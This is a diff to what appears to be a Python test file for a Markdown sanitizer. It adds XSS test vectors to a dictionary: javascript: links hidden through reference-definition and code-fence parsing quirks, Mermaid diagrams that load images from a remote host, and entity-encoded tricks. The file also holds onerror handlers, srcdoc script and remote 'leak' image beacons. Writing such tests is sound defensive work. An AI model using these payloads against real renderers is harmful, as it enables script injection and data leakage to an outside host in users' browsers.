@@ -14,6 +14,11 @@ VECTORS = {
     "link": f"[open](javascript:{RUN.replace(' ', '')})",
     "entity link": "[open](&#106;avascript:document.title='XSS')",
     "named link": f"[open][r] and ![pic][p]\n\n[r]: javascript:{RUN}\n[p]: {FAR}/p.png",
+    "name with a backtick": f"> [a`]: javascript:{RUN}//`\n\n- [b`\n]: javascript:{RUN}//`\n\n"
+    "[open][a`] [open][b`]",
+    "fence of spaces": f"foo\n    ~~~\n\n[a\\]b]: javascript:{RUN}\n    ~~~\n\n[open][a\\]b]",
+    "fence of a tab": f"\t```\n\n[a\n]: javascript:{RUN}\n\t```\n\n[open][a ]",
+    "name before a fence": f"[a\n    ~~~\nb]:\njavascript:{RUN}\n    ~~~\n\n[open][a ~~~ b]",
     "autolink": f"<javascript:{RUN}>",
     "remote image": f"![secret]({FAR}/leak?what) ![]({FAR}/2)",
     "fence": f"- a\n\n        ```\n```\n{IMG}\n```\n<iframe srcdoc='<script>'>\n",
@@ -21,6 +26,10 @@ VECTORS = {
     "math": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\style{{background:url({FAR}/s)}}{{x}}$$\n\n"
     f"$$\n{IMG}\n$$\n",
     "diagram": f'```mermaid\nflowchart\n A@{{ img: "{FAR}/m.png" }}\n```',
+    "diagram after a quote": f'> ```\n~~~mermaid\nflowchart\n A@{{ img: "{FAR}/m.png" }}\n~~~',
+    "diagram after a list": f'*  ```\n~~~ mermaid\nflowchart\n A@{{ img: "{FAR}/m.png" }}\n~~~',
+    "diagram in no fence": "foo\n    ~~~\n\n"
+    f'```&#109;ermaid\nflowchart\n A@{{ img: "{FAR}/m.png" }}\n```\n',
     "style": f"<style>@import '{FAR}/s.css'</style><link rel=stylesheet href={FAR}>",
     "table": f"| a | b |\n|---|---|\n| `<img src=x` | onerror={RUN}> |\n| <video src={FAR}> ||",
 }
